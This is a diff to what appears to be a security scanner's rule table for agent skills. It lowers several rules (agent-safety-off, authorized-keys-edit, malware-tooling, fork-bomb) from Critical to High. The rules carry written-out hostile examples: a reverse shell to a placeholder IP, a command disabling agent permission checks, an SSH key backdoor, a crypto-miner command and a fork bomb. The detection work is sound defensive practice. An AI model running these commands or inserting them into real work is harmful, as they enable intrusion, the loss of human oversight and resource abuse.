@@ -356,7 +356,7 @@ rules! {
         "packages installed from an unreviewed index, URL, tarball or git branch (`--extra-index-url`, `pip install https://…`, `npx -y github:…`)",
         "install released packages by name and version from the public registry, pinned in a lock file",
         "pip install --extra-index-url http://pypi.example.net/simple torch-helper";
-    AgentSafetyOff = "SK710", "agent-safety-off", SecurityDisablement, Critical,
+    AgentSafetyOff = "SK710", "agent-safety-off", SecurityDisablement, High,
         "turning off an agent's permission checks or sandbox (`bypassPermissions`, `--dangerously-skip-permissions`, `danger-full-access`)",
         "allow the commands the skill needs; never switch the checks off",
         "claude config set -g dangerouslySkipPermissions true";
@@ -380,11 +380,11 @@ rules! {
         "an interactive shell connected to a remote host (`bash -i >& /dev/tcp/…`, `nc -e`, `socat exec:`)",
         "there is no honest use in a skill; remove it",
         "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1";
-    AuthorizedKeysEdit = "SK721", "authorized-keys-edit", Backdoor, Critical,
+    AuthorizedKeysEdit = "SK721", "authorized-keys-edit", Backdoor, High,
         "a key added to `~/.ssh/authorized_keys`, letting its owner log in",
         "let the user manage their own authorised keys",
         "echo 'ssh-ed25519 AAAA…' >> ~/.ssh/authorized_keys";
-    MalwareTooling = "SK730", "malware-tooling", Malware, Critical,
+    MalwareTooling = "SK730", "malware-tooling", Malware, High,
         "known malicious tooling: cryptocurrency miners, mining pools, keyloggers, credential stealers",
         "remove it",
         "./xmrig -o stratum+tcp://pool.example.net:3333";
@@ -404,7 +404,7 @@ rules! {
         "a loop that never ends or an allocation sized to exhaust memory",
         "bound the loop and the allocation by the input",
         "while True:\\n    process_item(data)";
-    ForkBomb = "SK751", "fork-bomb", ResourceAbuse, Critical,
+    ForkBomb = "SK751", "fork-bomb", ResourceAbuse, High,
         "a fork bomb",
         "remove it",
         ":(){ :|:& };:";
